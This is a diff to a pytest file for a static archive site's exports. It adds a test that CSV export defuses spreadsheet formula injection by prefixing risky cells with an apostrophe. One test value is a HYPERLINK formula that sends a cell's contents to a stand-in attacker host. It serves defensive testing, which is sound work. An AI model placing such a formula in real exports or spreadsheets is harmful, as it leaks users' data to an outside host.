@@ -11,7 +11,7 @@ import pytest
 
 from arsip.build import build
 from arsip.schema import FIELD_ORDER
-from exports.exports import COLUMNS
+from exports.exports import COLUMNS, neutralise, to_csv
 
 ARTICLES = {
     "2024/kedua": """---
@@ -106,3 +106,16 @@ def test_footer_links_to_the_exports(site: Path) -> None:
     html = (site / "index.html").read_text(encoding="utf-8")
     assert 'href="https://example.org/arsip/data/articles.json"' in html
     assert 'href="https://example.org/arsip/data/articles.csv"' in html
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['=HYPERLINK("https://evil.example/?d="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1"],
+)
+def test_csv_cells_a_spreadsheet_would_evaluate_are_text(value: str) -> None:
+    record = dict.fromkeys(COLUMNS, "x") | {"tags": ["a"], "title_editorial": False}
+    text = to_csv([record | {"summary": value}])
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["summary"] == "'" + value
+    assert neutralise("\r=1") == "'\r=1"
+    assert neutralise("Ringkasan = biasa") == "Ringkasan = biasa"  # only the first character
